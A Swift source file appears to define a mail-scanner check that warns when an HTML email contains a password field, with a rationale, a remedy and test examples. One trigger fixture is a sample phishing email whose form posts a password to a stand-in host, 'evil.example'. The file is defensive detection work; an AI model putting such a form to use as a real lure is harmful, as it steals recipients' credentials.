import Content
import Inspection
import Mail
import Phrases

struct PasswordInForm: Check {
    let about = About(
        "password-in-form", .content, "a form that asks for a password",
        severity: .warning,
        why: """
            Nobody who is to have a password asks for it in a message: what is typed goes to whoever wrote the form. Few \
            honest messages ever had such a field.
            """,
        remedy: "Type nothing into it. Open the site yourself.",
        references: [
            .page(
                "HTML Living Standard §4.10.5.1.6, Password state",
                "https://html.spec.whatwg.org/multipage/input.html#password-state-(type=password)")
        ],
        triggers: [
            Example(
                "From: <a@example.com>\r\nContent-Type: text/html\r\n\r\n<form action=\"https://evil.example/\">⟦<input type=Password name=p>⟧</form>\r\n"
            )
        ],
        passes: [
            Example(
                "From: <a@example.com>\r\nContent-Type: text/html\r\n\r\n<form action=\"https://example.com/\"><input type=text name=q></form>\r\n"
            )
        ])

    func findings(in inspection: Inspection) -> [Finding] {
        let fields = inspection.contents.inputs.filter { $0.value.type == "password" }
        guard !fields.isEmpty else { return [] }
        let target = inspection.contents.links.first { $0.use == .submit }?.address?.host.defangedHost
        return [
            Finding(
                target.map { "the message asks for a password, to be sent to \(words: $0)" }
                    ?? "the message asks for a password",
                fields.prefix(Report.maximumEvidence).map { .bytes($0.range, label: "asks for a password") },
                count: fields.count)
        ]
    }
}
